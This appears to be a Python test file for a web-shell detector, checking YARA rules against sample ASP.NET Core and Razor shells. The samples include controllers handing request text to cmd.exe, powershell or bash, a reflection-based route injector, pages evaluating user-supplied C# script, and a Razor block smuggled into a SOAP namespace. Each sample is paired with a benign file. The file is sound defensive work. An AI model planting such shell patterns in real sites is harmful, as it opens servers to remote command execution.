"""Rules from the thirty-ninth unseen collection: Razor and ASP.NET Core shells (issue 14, helper X39).

On first sight (BENCHMARKS.md, "Unseen shells, thirty-ninth collection: Razor and ASP.NET Core shells") the own
rules and the behaviour analysis found 6 of 13 files. Missed were three C# sources of ASP.NET Core sites (an API
controller and an MVC controller handing the query's text to cmd.exe, a minimal-API ``Program.cs`` mapping
``/cmd`` to ``Process.Start("cmd.exe", "/c " + cmd)``: outside App_Code only YARA reads a ``.cs``), a Razor
view injecting a memory shell into ASP.NET Core MVC (Roslyn-compiled controller added as an ApplicationPart,
the framework's non-public ``UpdateCollection`` called through reflection), a Blazor component handing a bound
text box to ``CSharpScript.EvaluateAsync``, a ``.cshtml`` written by a SOAP client proxy whose XML namespace
carries a Razor code block (SOAPwn), and a Razor Page running ``/bin/cat`` on a flag file. The rules:

- ``EXT_WEBSHELL_Core_Endpoint_Runs_Shell_Text``, ``EXT_WEBSHELL_Core_Route_Injected_By_Reflection``,
  ``EXT_WEBSHELL_Razor_Evaluates_Bound_Code``, ``EXT_WEBSHELL_Razor_Code_Smuggled_In_Markup``
  (``data/rules/core_and_razor_code.yar``);
- ``EXT_WEBSHELL_Razor_Page_Starts_Interpreter`` (``data/rules/classic_asp_and_razor.yar``) now also takes a
  Unix tool that reads files or the host named by its absolute path (``/bin/cat``, ``/usr/bin/id``).

The shells below are harmless files in those shapes, written here: nothing is run by the tests, and the
programs (``ver``, notepad, ``id``), routes, names and keys differ from the collected files. The ordinary files
are the closest everyday ones: controllers and endpoints that run a program they name with fixed arguments, a
configured backup tool or a fixed script, an upload action saving under a new name in a fixed folder, a request
logging middleware, a plugin loader adding parts through the public ApplicationPartManager, a Blazor calculator,
a page evaluating a fixed expression, plain SOAP envelopes and a Razor view running ``git --version``.
"""

from __future__ import annotations

from pathlib import Path

from extriage.detections.webfiles import content

from .rule_tables import Page, RuleCase, findings_for, quiet_pages_test, rule_tables, scan_tree, yara_rules

_EP = "EXT_WEBSHELL_Core_Endpoint_Runs_Shell_Text"
_INJ = "EXT_WEBSHELL_Core_Route_Injected_By_Reflection"
_EVAL = "EXT_WEBSHELL_Razor_Evaluates_Bound_Code"
_SMUG = "EXT_WEBSHELL_Razor_Code_Smuggled_In_Markup"
_RAZOR = "EXT_WEBSHELL_Razor_Page_Starts_Interpreter"

_USINGS = "using System.Diagnostics;\nusing Microsoft.AspNetCore.Mvc;\n\n"

EP_SHELLS: list[Page] = [
    (
        "api-controller-interpolated-c",
        ".cs",
        _USINGS + '[ApiController]\n[Route("tools")]\npublic class ToolsController : ControllerBase\n{\n'
        '    [HttpGet("run")]\n    public IActionResult Run()\n    {\n'
        '        var q = Request.Query["q"].ToString();\n'
        '        var psi = new ProcessStartInfo("cmd.exe", $"/c {q}") { RedirectStandardOutput = true };\n'
        "        using var p = Process.Start(psi);\n        return Ok(p.StandardOutput.ReadToEnd());\n    }\n}\n",
    ),
    (
        "mvc-controller-writes-stdin",
        ".cs",
        _USINGS
        + "public class ConsoleController : Controller\n{\n    public IActionResult Index(string text)\n    {\n"
        '        var p = new Process();\n        p.StartInfo.FileName = "cmd.exe";\n'
        "        p.StartInfo.RedirectStandardInput = true;\n        p.StartInfo.RedirectStandardOutput = true;\n"
        '        p.Start();\n        p.StandardInput.WriteLine($"{text}&exit");\n'
        '        ViewData["Out"] = p.StandardOutput.ReadToEnd();\n        return View();\n    }\n}\n',
    ),
    (
        "minimal-api-powershell-command",
        ".cs",
        "using System.Diagnostics;\nvar app = WebApplication.CreateBuilder(args).Build();\n"
        'app.MapPost("/ops", (string t) => Process.Start("powershell", "-Command " + t)?.Id);\napp.Run();\n',
    ),
    (
        "page-model-bash-c",
        ".cshtml.cs",
        "using System.Diagnostics;\nusing Microsoft.AspNetCore.Mvc.RazorPages;\n\n"
        'public class StatusModel : PageModel\n{\n    public string Text { get; set; } = "";\n'
        "    public void OnPost(string c)\n    {\n"
        '        var psi = new ProcessStartInfo("/bin/bash", $"-c \\"{c}\\"") { RedirectStandardOutput = true };\n'
        "        Text = Process.Start(psi)!.StandardOutput.ReadToEnd();\n    }\n}\n",
    ),
    (
        "inline-middleware-header",
        ".cs",
        "using System.Diagnostics;\nvar app = WebApplication.CreateBuilder(args).Build();\n"
        "app.Use(async (ctx, next) =>\n{\n"
        '    string h = ctx.Request.Headers["X-Ping"];\n'
        '    if (!string.IsNullOrEmpty(h)) { Process.Start("cmd.exe", "/c " + h); }\n'
        "    await next();\n});\napp.Run();\n",
    ),
]

EP_ORDINARY: list[Page] = [
    (
        "controller-dotnet-info",
        ".cs",
        _USINGS + "public class AboutController : Controller\n{\n    public IActionResult Runtime()\n    {\n"
        '        var psi = new ProcessStartInfo("dotnet", "--info") { RedirectStandardOutput = true };\n'
        "        using var p = Process.Start(psi);\n"
        '        ViewData["Info"] = p!.StandardOutput.ReadToEnd();\n        return View();\n    }\n}\n',
    ),
    (
        "controller-configured-backup-tool",
        ".cs",
        _USINGS + '[Route("admin/backup")]\npublic class BackupController : Controller\n{\n'
        "    private readonly BackupOptions _opts;\n"
        "    public BackupController(BackupOptions opts) { _opts = opts; }\n"
        "    [HttpPost]\n    public IActionResult Start()\n    {\n"
        '        Process.Start(new ProcessStartInfo(_opts.Tool, "--all --quiet"));\n'
        '        return RedirectToAction("Index");\n    }\n}\n',
    ),
    (
        "controller-fixed-maintenance-script",
        ".cs",
        _USINGS + "public class MaintenanceController : Controller\n{\n    [HttpPost]\n"
        "    public IActionResult Rotate()\n    {\n"
        '        Process.Start("cmd.exe", "/c rotate-logs.cmd");\n        return Ok();\n    }\n}\n',
    ),
    (
        "controller-upload-to-fixed-folder",
        ".cs",
        "using Microsoft.AspNetCore.Mvc;\n\npublic class PhotosController : Controller\n{\n"
        "    private readonly IWebHostEnvironment _env;\n"
        "    public PhotosController(IWebHostEnvironment env) { _env = env; }\n"
        "    [HttpPost]\n    public async Task<IActionResult> Upload(IFormFile file)\n    {\n"
        '        var name = Guid.NewGuid().ToString("N") + ".jpg";\n'
        '        var path = Path.Combine(_env.WebRootPath, "uploads", name);\n'
        "        await using var stream = System.IO.File.Create(path);\n"
        "        await file.CopyToAsync(stream);\n"
        '        return RedirectToAction("Index");\n    }\n}\n',
    ),
    (
        "minimal-api-health-and-memory",
        ".cs",
        "using System.Diagnostics;\nvar app = WebApplication.CreateBuilder(args).Build();\n"
        'app.MapGet("/health", () => Results.Ok(new { mem = Process.GetCurrentProcess().WorkingSet64 }));\n'
        "app.Run();\n",
    ),
    (
        "request-logging-middleware",
        ".cs",
        "public class RequestLogMiddleware\n{\n    private readonly RequestDelegate _next;\n"
        "    public RequestLogMiddleware(RequestDelegate next) { _next = next; }\n"
        "    public async Task InvokeAsync(HttpContext context, ILogger<RequestLogMiddleware> log)\n    {\n"
        "        context.Request.EnableBuffering();\n"
        "        var body = await new StreamReader(context.Request.Body, leaveOpen: true).ReadToEndAsync();\n"
        "        context.Request.Body.Position = 0;\n"
        '        log.LogInformation("{Method} {Path} {Body}", context.Request.Method, context.Request.Path, body);\n'
        "        await _next(context);\n    }\n}\n",
    ),
]

_INJECT_TAIL = (
    "    var svc = this.Context.RequestServices.GetService(typeof(Microsoft.AspNetCore.Mvc.Infrastructure."
    "IActionDescriptorCollectionProvider));\n"
    '    svc.GetType().GetMethod("UpdateCollection", BindingFlags.NonPublic | BindingFlags.Instance)'
    ".Invoke(svc, null);\n"
)

INJ_SHELLS: list[Page] = [
    (
        "view-adds-compiled-part",
        ".cshtml",
        "@using System.Reflection\n@{\n"
        "    var asm = BuildPart(PartSource);\n"
        "    var mgr = (Microsoft.AspNetCore.Mvc.ApplicationParts.ApplicationPartManager)this.Context.RequestServices"
        ".GetService(typeof(Microsoft.AspNetCore.Mvc.ApplicationParts.ApplicationPartManager));\n"
        "    mgr.ApplicationParts.Add(new Microsoft.AspNetCore.Mvc.ApplicationParts.AssemblyPart(asm));\n"
        + _INJECT_TAIL
        + "}\n",
    ),
    (
        "class-adds-route-model-provider",
        ".cs",
        "using System.Linq;\nusing System.Reflection;\n\npublic static class Hook\n{\n"
        "    public static void Add(IServiceProvider sp, object extra)\n    {\n"
        "        var pad = sp.GetService(typeof(Microsoft.AspNetCore.Mvc.Abstractions.IActionDescriptorProvider));\n"
        '        var f = pad.GetType().GetField("_routeModelProviders", BindingFlags.NonPublic | BindingFlags.Instance);\n'
        "        f.SetValue(pad, extra);\n"
        "        var svc = sp.GetService(typeof(Microsoft.AspNetCore.Mvc.Infrastructure.IActionDescriptorCollectionProvider));\n"
        '        svc.GetType().GetMethod("UpdateCollection", BindingFlags.NonPublic | BindingFlags.Instance).Invoke(svc, null);\n'
        "    }\n}\n",
    ),
]

INJ_ORDINARY: list[Page] = [
    (
        "plugin-loader-public-api",
        ".cs",
        "using System.Reflection;\nusing Microsoft.AspNetCore.Mvc.ApplicationParts;\n"
        "using Microsoft.AspNetCore.Mvc.Infrastructure;\n\npublic class PluginLoader\n{\n"
        "    private readonly ApplicationPartManager _parts;\n    private readonly PluginChangeProvider _changes;\n"
        "    public PluginLoader(ApplicationPartManager parts, PluginChangeProvider changes)"
        " { _parts = parts; _changes = changes; }\n"
        "    public void Load(string path)\n    {\n"
        "        var asm = Assembly.LoadFrom(path);\n"
        "        _parts.ApplicationParts.Add(new AssemblyPart(asm));\n"
        "        _changes.HasChanged = true;\n        _changes.TokenSource.Cancel();\n    }\n}\n"
        "public class PluginChangeProvider : IActionDescriptorChangeProvider\n{\n"
        "    public CancellationTokenSource TokenSource { get; private set; } = new();\n"
        "    public bool HasChanged { get; set; }\n"
        "    public IChangeToken GetChangeToken() => new CancellationChangeToken(TokenSource.Token);\n}\n",
    ),
]

EVAL_SHELLS: list[Page] = [
    (
        "blazor-textarea-to-script",
        ".razor",
        '@page "/sandbox"\n<textarea @bind="Source"></textarea>\n<button @onclick="Go">Go</button>\n'
        '<pre>@Result</pre>\n@code {\n    string Source = "";\n    object? Result;\n'
        "    async Task Go() => Result = await Microsoft.CodeAnalysis.CSharp.Scripting.CSharpScript"
        ".EvaluateAsync<object>(Source);\n}\n",
    ),
    (
        "cshtml-form-to-script",
        ".cshtml",
        "@using Microsoft.CodeAnalysis.CSharp.Scripting\n@{\n"
        '    string code = Request.Form["expr"];\n    object? value = null;\n'
        "    if (!string.IsNullOrEmpty(code)) { value = await CSharpScript.EvaluateAsync(code); }\n}\n"
        '<form method="post"><input name="expr" /></form>\n<p>@value</p>\n',
    ),
]

EVAL_ORDINARY: list[Page] = [
    (
        "blazor-calculator",
        ".razor",
        '@page "/calc"\n<input type="number" @bind="A" /> + <input type="number" @bind="B" />\n'
        "<p>@(A + B)</p>\n@code {\n    int A;\n    int B;\n}\n",
    ),
    (
        "page-evaluates-fixed-expression",
        ".cshtml",
        "@using Microsoft.CodeAnalysis.CSharp.Scripting\n@{\n"
        '    var answer = await CSharpScript.EvaluateAsync<int>("6 * 7");\n}\n<p>@answer</p>\n',
    ),
]

SMUG_SHELLS: list[Page] = [
    (
        "soap-envelope-namespace-block",
        ".cshtml",
        '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope">'
        '<soap:Body><ping xmlns="http://example.net/svc/?@{System.Diagnostics.Process.Start(new string(new char[]'
        "{'n','o','t','e','p','a','d'}));}\" /></soap:Body></soap:Envelope>",
    ),
    (
        "razor-block-char-array-start",
        ".cshtml",
        "<div>status</div>\n@{ System.Diagnostics.Process.Start(new string(new char[]{'n','o','t','e','p','a','d'})); }\n",
    ),
]

SMUG_ORDINARY: list[Page] = [
    (
        "soap-envelope-plain",
        ".xml",
        '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope">'
        '<soap:Body><GetPrice xmlns="http://tempuri.org/?v=2"><Item>42</Item></GetPrice></soap:Body></soap:Envelope>',
    ),
    (
        "razor-chars-for-display",
        ".cshtml",
        "@{\n    var mark = new string(new char[]{'O','K'});\n}\n<p>@mark @Model.Name</p>\n",
    ),
]

RAZOR_SHELLS: list[Page] = [
    (
        "razor-page-usr-bin-id",
        ".cshtml",
        "@page\n@{\n"
        '    var psi = new System.Diagnostics.ProcessStartInfo("/usr/bin/id") { RedirectStandardOutput = true };\n'
        "    var text = System.Diagnostics.Process.Start(psi)!.StandardOutput.ReadToEnd();\n}\n<pre>@text</pre>\n",
    ),
]

RAZOR_ORDINARY: list[Page] = [
    (
        "razor-view-git-version",
        ".cshtml",
        "@{\n"
        '    var psi = new System.Diagnostics.ProcessStartInfo("/usr/bin/git", "--version") '
        "{ RedirectStandardOutput = true };\n"
        "    var v = System.Diagnostics.Process.Start(psi)!.StandardOutput.ReadToEnd();\n}\n<footer>@v</footer>\n",
    ),
]

CASES: list[RuleCase] = [
    (_EP, EP_SHELLS, EP_ORDINARY),
    (_INJ, INJ_SHELLS, INJ_ORDINARY),
    (_EVAL, EVAL_SHELLS, EVAL_ORDINARY),
    (_SMUG, SMUG_SHELLS, SMUG_ORDINARY),
    (_RAZOR, RAZOR_SHELLS, RAZOR_ORDINARY),
]

(
    test_shell_is_found,
    test_ordinary_page_is_not_flagged,
    test_rule_needs_a_server_page,
) = rule_tables(CASES, log_url="/tools/run")

#: The ordinary pages of every table raise nothing at all (YARA and the behaviour analysis).
test_ordinary_file_raises_no_finding = quiet_pages_test(
    EP_ORDINARY + INJ_ORDINARY + EVAL_ORDINARY + SMUG_ORDINARY + RAZOR_ORDINARY
)


def test_controller_that_names_no_interpreter_stays_silent(
    tmp_path: Path, params: content.ContentParams
) -> None:
    """The endpoint rule needs an interpreter: the same action handing the query to a named tool is not it."""
    page = (
        _USINGS
        + "public class PingController : ControllerBase\n{\n    [HttpGet]\n    public IActionResult Get(string host)\n"
        '    {\n        var psi = new ProcessStartInfo("ping.exe", "-n 1 " + host);\n'
        "        return Ok(Process.Start(psi)!.Id);\n    }\n}\n"
    )
    assert _EP not in yara_rules(tmp_path, "PingController.cs", page, params)


_CORE_ROOT = "C/inetpub/wwwroot/shop/"
_CORE_CONFIG = (
    '<?xml version="1.0" encoding="utf-8"?>\n<configuration><system.webServer><handlers>'
    '<add name="aspNetCore" path="*" verb="*" modules="AspNetCoreModuleV2" resourceType="Unspecified" />'
    '</handlers><aspNetCore processPath="dotnet" arguments=".\\Shop.dll" hostingModel="inprocess" />'
    "</system.webServer></configuration>\n"
)


def test_core_site_sources_are_for_review_and_its_razor_injector_a_web_shell(tmp_path: Path) -> None:
    """In an ASP.NET Core site (web.config hands every request to the ASP.NET Core module) a controller's
    source is compiled into the site's DLL, not run from the file: its match is reported for review (info),
    while a .cshtml that injects a route - a page runtime compilation runs - is a web shell. The same
    controller in App_Code, which ASP.NET compiles itself, is a web shell by the behaviour analysis."""
    ep_name, _, ep_text = EP_SHELLS[0]
    inj_name, _, inj_text = INJ_SHELLS[0]
    files = [
        ("web.config", _CORE_CONFIG),
        ("Controllers/ToolsController.cs", ep_text),
        ("Views/Shared/_Layout2.cshtml", inj_text),
        ("appsettings.json", '{"AllowedHosts": "*"}\n'),
    ]
    data = scan_tree(tmp_path / "core", _CORE_ROOT, files)
    source = findings_for(data, "Controllers/ToolsController.cs")
    assert [(f["rule_id"], f["outcome"]) for f in source] == [("WF-YARA-" + _EP, "info")], ep_name
    view = findings_for(data, "Views/Shared/_Layout2.cshtml")
    assert ("WF-YARA-" + _INJ, "webshell") in [(f["rule_id"], f["outcome"]) for f in view], inj_name

    compiled = scan_tree(
        tmp_path / "appcode", "C/inetpub/wwwroot/legacy/", [("App_Code/ToolsController.cs", ep_text)]
    )
    outcomes = {f["outcome"] for f in findings_for(compiled, "App_Code/ToolsController.cs")}
    assert "webshell" in outcomes


def test_a_blazor_component_is_for_review_even_under_a_page_rule(tmp_path: Path) -> None:
    """A .razor component is compiled at build and never run from the file: a rule that fixes the outcome
    web shell for pages (EXT_WEBSHELL_Razor_Page_Starts_Interpreter) reports it for review; the same code in
    a .cshtml view, which runtime compilation runs, stays a web shell."""
    text = (
        '@page "/tools"\n@using System.Diagnostics\n@code {\n    string Output = "";\n'
        '    void Run(string a) { var p = Process.Start(new ProcessStartInfo("/bin/sh", "-c " + a)'
        " { RedirectStandardOutput = true }); Output = p!.StandardOutput.ReadToEnd(); }\n}\n"
    )
    files = [("Components/Tools.razor", text), ("Views/Tools.cshtml", text)]
    data = scan_tree(tmp_path / "core", _CORE_ROOT, files)
    rule = "WF-YARA-EXT_WEBSHELL_Razor_Page_Starts_Interpreter"
    component = {(f["rule_id"], f["outcome"]) for f in findings_for(data, "Components/Tools.razor")}
    assert (rule, "info") in component and not any(o == "webshell" for _r, o in component)
    view = {(f["rule_id"], f["outcome"]) for f in findings_for(data, "Views/Tools.cshtml")}
    assert (rule, "webshell") in view

